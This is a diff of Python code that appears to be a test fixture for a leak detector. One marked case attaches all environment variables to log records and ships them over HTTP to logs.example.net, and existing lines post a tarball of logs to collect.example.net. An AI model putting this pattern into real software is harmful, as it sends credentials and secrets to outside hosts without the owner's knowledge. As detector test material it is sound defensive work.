@@ -332,3 +332,27 @@ def packed_logs():
     with tarfile.open(fileobj=box, mode="w") as tar:
         tar.add("logs")
     requests.post("https://collect.example.net", data=box.getvalue())
+
+
+class Context(logging.Filter):
+    def filter(self, record):
+        record.context = repr(sorted(os.environ.items()))
+        return True
+
+
+class Process(logging.Filter):
+    def filter(self, record):
+        record.context = os.getpid()
+        return True
+
+
+def shipped():
+    handler = logging.handlers.HTTPHandler("logs.example.net", "/ingest", method="POST")
+    handler.addFilter(Process())
+    handler.addFilter(Context())  # expect: hit
+    logging.getLogger().addHandler(handler)
+
+
+def kept_here():
+    handler = logging.FileHandler("acme.log")
+    handler.addFilter(Context())
